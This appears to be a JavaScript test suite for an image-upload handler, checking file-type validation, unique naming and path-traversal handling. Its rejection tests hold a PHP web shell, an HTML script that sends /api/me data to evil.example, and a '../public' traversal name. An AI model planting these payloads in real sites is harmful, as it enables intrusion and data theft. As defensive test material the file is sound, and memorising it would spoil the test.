'use strict';
const fs = require('fs');
const path = require('path');
const zlib = require('zlib');

function crc32(buf) {
  let c; let crc = 0xffffffff;
  for (const b of buf) {
    c = (crc ^ b) & 0xff;
    for (let k = 0; k < 8; k++) c = c & 1 ? 0xedb88320 ^ (c >>> 1) : c >>> 1;
    crc = (crc >>> 8) ^ c;
  }
  return (crc ^ 0xffffffff) >>> 0;
}

function chunk(type, data) {
  const len = Buffer.alloc(4); len.writeUInt32BE(data.length);
  const td = Buffer.concat([Buffer.from(type), data]);
  const crc = Buffer.alloc(4); crc.writeUInt32BE(crc32(td));
  return Buffer.concat([len, td, crc]);
}

// A real 2x2 RGB PNG.
function png() {
  const ihdr = Buffer.from([0, 0, 0, 2, 0, 0, 0, 2, 8, 2, 0, 0, 0]);
  const raw = Buffer.from([0, 255, 0, 0, 0, 255, 0, 0, 0, 0, 255, 255, 255, 255]);
  return Buffer.concat([Buffer.from([0x89, 0x50, 0x4e, 0x47, 0x0d, 0x0a, 0x1a, 0x0a]), chunk('IHDR', ihdr),
    chunk('IDAT', zlib.deflateSync(raw)), chunk('IEND', Buffer.alloc(0))]);
}
const JPEG = Buffer.concat([Buffer.from([0xff, 0xd8, 0xff, 0xe0, 0x00, 0x10]), Buffer.from('JFIF\0'), Buffer.alloc(40, 7), Buffer.from([0xff, 0xd9])]);
const GIF = Buffer.concat([Buffer.from('GIF89a'), Buffer.from([1, 0, 1, 0, 0x80, 0, 0, 0, 0, 0, 255, 255, 255, 0x2c, 0, 0, 0, 0, 1, 0, 1, 0, 0, 2, 2, 0x44, 1, 0, 0x3b])]);

function dir(ctx) {
  const d = path.join(ctx.workdir, 'uploads');
  fs.mkdirSync(d, { recursive: true });
  fs.mkdirSync(path.join(ctx.workdir, 'public'), { recursive: true });
  return d;
}

async function stored(ctx, d, file) {
  const name = await ctx.call(d, file);
  ctx.assert.equal(typeof name, 'string', 'expected the stored file name');
  ctx.assert.equal(path.basename(name), name, `expected a bare file name, got ${name}`);
  ctx.assert.ok(fs.readFileSync(path.join(d, name)).equals(file.data), 'stored bytes differ from the upload');
  return name;
}

async function rejected(ctx, file) {
  const d = dir(ctx);
  const r = await ctx.attempt(d, file);
  ctx.assert.ok(r.error, `${file.originalName} (${file.mimeType}) was accepted as ${r.value}`);
  ctx.assert.equal(r.error.code, 'UNSUPPORTED_TYPE', `expected code UNSUPPORTED_TYPE, got ${r.error.code}: ${r.error.message}`);
  ctx.assert.deepEqual(fs.readdirSync(d), [], 'a rejected upload left a file behind');
}

module.exports = {
  stores_png_with_png_extension: async (ctx) => {
    const d = dir(ctx);
    const name = await stored(ctx, d, { originalName: 'me.png', mimeType: 'image/png', data: png() });
    ctx.assert.match(name, /\.png$/);
    ctx.assert.deepEqual(fs.readdirSync(d), [name]);
  },
  stores_jpeg_and_gif: async (ctx) => {
    const d = dir(ctx);
    ctx.assert.match(await stored(ctx, d, { originalName: 'PHOTO.JPEG', mimeType: 'image/jpeg', data: JPEG }), /\.jpg$/);
    ctx.assert.match(await stored(ctx, d, { originalName: 'wave.gif', mimeType: 'image/gif', data: GIF }), /\.gif$/);
  },
  unique_names: async (ctx) => {
    const d = dir(ctx);
    const a = await stored(ctx, d, { originalName: 'me.png', mimeType: 'image/png', data: png() });
    const b = await stored(ctx, d, { originalName: 'me.png', mimeType: 'image/png', data: png() });
    ctx.assert.notEqual(a, b, 'the second upload overwrote the first');
  },
  rejects_text_file: async (ctx) => {
    await rejected(ctx, { originalName: 'notes.txt', mimeType: 'text/plain', data: Buffer.from('hello\n') });
  },
  script_with_image_mime_type: async (ctx) => {
    await rejected(ctx, { originalName: 'shell.php', mimeType: 'image/png', data: Buffer.from('<?php system($_GET["c"]); ?>') });
  },
  html_named_as_png: async (ctx) => {
    const html = Buffer.from('<html><body><script>fetch("/api/me").then(r=>r.text()).then(t=>location="//evil.example/?"+t)</script></body></html>');
    await rejected(ctx, { originalName: 'avatar.png', mimeType: 'image/png', data: html });
    await rejected(ctx, { originalName: 'avatar.png.html', mimeType: 'image/png', data: html });
  },
  traversal_in_original_name: async (ctx) => {
    const d = dir(ctx);
    const r = await ctx.attempt(d, { originalName: '../public/index.png', mimeType: 'image/png', data: png() });
    ctx.assert.deepEqual(fs.readdirSync(path.join(ctx.workdir, 'public')), [], 'the upload was written into the public folder');
    if (r.error) return;
    ctx.assert.equal(path.basename(String(r.value)), r.value, `the stored name carries a path: ${r.value}`);
    ctx.assert.ok(fs.existsSync(path.join(d, r.value)), 'the stored file is not in the upload folder');
  },
};
